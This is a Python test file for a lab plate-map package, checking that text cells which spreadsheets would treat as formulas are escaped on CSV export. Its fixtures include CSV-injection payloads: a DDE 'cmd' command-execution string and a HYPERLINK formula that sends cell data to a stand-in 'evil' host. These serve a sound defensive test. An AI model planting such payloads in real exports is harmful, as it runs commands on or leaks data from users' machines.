"""Texts that a spreadsheet would take for formulas."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spheroidd.protocols.plate import PlateWell, Treatment, WellRole
from spheroidd.protocols.plate_map.file import read_plate_map, write_plate_map
from spheroidd.protocols.tables.cells import guarded, is_formula, unguarded
from spheroidd.protocols.well import WellId

SIGNS = "=+-@\t\r\n＝＋－＠"


@pytest.mark.parametrize("sign", SIGNS, ids=lambda sign: f"U+{ord(sign):04X}")
def test_a_text_with_a_formulas_sign_is_written_as_a_text(sign):
    assert guarded(f"{sign}cmd|' /C calc'!A0") == f"'{sign}cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["-5", "+1.5e-3", "-.5", "5-FU", "", "a=b", "'tis", "DMSO 0.1 %", "(-)-nutlin"])
def test_numbers_stay_numbers_and_other_texts_as_they_are(text):
    assert guarded(text) == text


@given(st.text("'=+-@1a\t ", max_size=6) | st.text(max_size=8))
def test_every_text_comes_back_and_none_is_a_formula_as_it_is_written(text):
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in SIGNS or not is_formula(text)


def test_a_map_with_formulas_for_names_is_written_harmless_and_read_back(tmp_path):
    treatment = Treatment(WellRole.SAMPLE, '=HYPERLINK("http://evil/?"&A1,"x")', 1.0, "@SUM(1)")
    wells = [PlateWell(WellId(0, 0), treatment, annotations={"note": "'-2+3"})]
    write_plate_map(tmp_path / "map.csv", wells)
    assert list(read_plate_map(tmp_path / "map.csv")) == wells
    row = (tmp_path / "map.csv").read_text(encoding="utf-8").splitlines()[1]
    assert row == 'A01,sample,"\'=HYPERLINK(""http://evil/?""&A1,""x"")",1.0,\'@SUM(1),\'\'-2+3'
